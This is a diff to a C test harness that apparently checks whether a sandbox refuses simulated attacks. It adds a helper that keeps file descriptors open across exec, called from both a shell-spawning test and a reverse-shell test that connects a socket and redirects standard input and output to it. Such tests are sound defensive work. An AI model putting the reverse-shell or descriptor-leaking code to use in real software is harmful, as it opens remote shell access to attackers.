@@ -111,9 +111,18 @@ static char words[] = "echo " ATTACK_EXECUTED;
 static char *const shell_arguments[] = {shell, option, words, NULL};
 static char *const no_environment[] = {NULL};
 
+/* The broker ends a worker whose channel closes, as it does in another program: this one would race its first word.
+ * Told by "keep", as seccomp would end it here already. */
+static void keep_descriptors(const struct attack_target *target)
+{
+    for (int fd = STDERR_FILENO + 1; attack_number(target, "keep") && fd < 64; fd++) {
+        (void)fcntl(fd, F_SETFD, 0);
+    }
+}
+
 static struct attack_result execute(const struct attack_target *target)
 {
-    (void)target;
+    keep_descriptors(target);
     execve(shell, shell_arguments, no_environment);
     return attack_refused("execve");
 }
@@ -145,6 +154,7 @@ static struct attack_result reverse_shell(const struct attack_target *target)
     if (connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0) {
         return attack_refused("connect");
     }
+    keep_descriptors(target);
     dup2(STDOUT_FILENO, 9);
     for (int i = 0; i <= 2; i++) {
         dup2(fd, i);
